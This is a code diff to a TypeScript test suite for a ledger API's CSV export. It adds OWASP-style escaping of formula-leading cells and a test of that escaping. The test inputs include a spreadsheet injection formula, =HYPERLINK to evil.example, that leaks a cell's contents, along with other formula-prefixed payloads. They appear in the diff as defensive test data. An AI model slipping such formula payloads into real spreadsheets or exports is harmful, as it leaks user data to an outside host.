@@ -40,6 +40,9 @@ async function call(method: string, path: string, opts: { token?: string; body?:
 }
 const api = (path: string) => `/api/guilds/${guild}/ledger${path}`;
 
+/** A free-text cell as the CSV export writes it: a leading formula character escaped with `'` (OWASP). */
+const spreadsheetText = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
+
 /** RFC 4180 parser (quoted fields with "" escapes, CRLF or LF, newlines inside quotes). */
 function parseCsv(text: string): string[][] {
   const rows: string[][] = [];
@@ -354,15 +357,15 @@ describe('CSV export', () => {
       const row = Object.fromEntries(header!.map((h, j) => [h, r[j]]));
       expect(row).toEqual({
         id: e.id,
-        key: e.key,
+        key: spreadsheetText(e.key),
         type: e.type,
         status: e.status,
         created_at: e.createdAt,
         posted_at: e.postedAt ?? '',
         voided_at: e.voidedAt ?? '',
         actor_type: e.actor.type,
-        actor_id: e.actor.id,
-        reason: e.reason ?? '',
+        actor_id: spreadsheetText(e.actor.id),
+        reason: spreadsheetText(e.reason ?? ''),
         refs: JSON.stringify(e.refs),
         postings: JSON.stringify(
           e.postings.map((p: Body) => ({ account: `${p.account.ownerType}:${p.account.ownerId}`, asset: p.asset, amount: p.amount, balanceAfter: p.balanceAfter })),
@@ -370,11 +373,44 @@ describe('CSV export', () => {
         hold: e.hold ? JSON.stringify({ ...e.hold, from: `${e.hold.from.ownerType}:${e.hold.from.ownerId}`, to: `${e.hold.to.ownerType}:${e.hold.to.ownerId}` }) : '',
       });
     });
-    expect(rows.map((r) => r[9])).toContain('=1+1 "quoted" \r\n end');
+    expect(rows.map((r) => r[9])).toContain(`'=1+1 "quoted" \r\n end`);
     expect(rows.map((r) => r[9])).toContain('line one\nline two, with a comma');
 
     const gives = parseCsv((await call('GET', api(`/entries.csv?type=give&account=user:${carol}`))).text).slice(1);
     expect(gives.map((r) => r[1])).toEqual([k('give/4'), k('give/2')]);
+  });
+
+  it('writes free text that starts like a formula as text, and keeps the JSON and the amounts exact', async () => {
+    const g = await createGuild(db.prisma);
+    const token = (await createApiToken(db.prisma, { guildId: g, name: 'm', level: 'mod', createdBy: 'cli', creatorLevel: 'owner' })).token;
+    await ledger.transfer({ guildId: g, key: `fund:${g}`, type: 'daily', actor: SYSTEM, asset: 'currency', from: systemAccount('issuance'), to: userAccount(alice), amount: 100n });
+    const notes = ['=HYPERLINK("https://evil.example/?leak="&A2,"Claim your prize")', '+SUM(1,2)', '-2+3', '@cmd', '\t=1+1', '\r=1+1', 'thanks - = + @ inside is fine'];
+    for (const [i, note] of notes.entries()) {
+      await ledger.transfer({ guildId: g, key: `give:${g}:${i}`, type: 'give', actor: { type: 'user', id: alice }, reason: note, asset: 'currency', from: userAccount(alice), to: userAccount(bob), amount: 5n });
+    }
+    // A key a client chose can start like a formula too.
+    await ledger.transfer({ guildId: g, key: `-1+1:${g}`, type: 'give', actor: { type: 'user', id: alice }, asset: 'currency', from: userAccount(alice), to: userAccount(bob), amount: 1n });
+    const get = (path: string) => call('GET', `/api/guilds/${g}/ledger${path}`, { token });
+
+    const [header, ...rows] = parseCsv((await get('/entries.csv?type=give')).text);
+    const col = (name: string) => header!.indexOf(name);
+    const byKey = new Map(rows.map((r) => [r[col('key')]!, r]));
+    for (const [i, note] of notes.entries()) expect(byKey.get(`give:${g}:${i}`)?.[col('reason')]).toBe(spreadsheetText(note));
+    expect(byKey.get(`give:${g}:0`)?.[col('reason')]).toBe(`'=HYPERLINK("https://evil.example/?leak="&A2,"Claim your prize")`);
+    expect(byKey.get(`give:${g}:6`)?.[col('reason')]).toBe('thanks - = + @ inside is fine');
+    expect(byKey.has(`'-1+1:${g}`)).toBe(true);
+    // Amounts (negative for the giver) are the JSON the API gives, untouched.
+    const postings = JSON.parse(byKey.get(`give:${g}:0`)![col('postings')]!) as { account: string; amount: string }[];
+    expect(postings.map((p) => [p.account, p.amount])).toEqual([
+      [`user:${alice}`, '-5'],
+      [`user:${bob}`, '5'],
+    ]);
+    expect(byKey.get(`give:${g}:0`)![col('id')]).toMatch(/^\d+$/);
+
+    const json = (await get('/entries?type=give&limit=100')).body.entries as Body[];
+    expect(new Map(json.map((e) => [e.key, e.reason]))).toEqual(
+      new Map<string, string | null>([...notes.map((n, i): [string, string] => [`give:${g}:${i}`, n]), [`-1+1:${g}`, null]]),
+    );
   });
 
   describe('20 000 entries', () => {
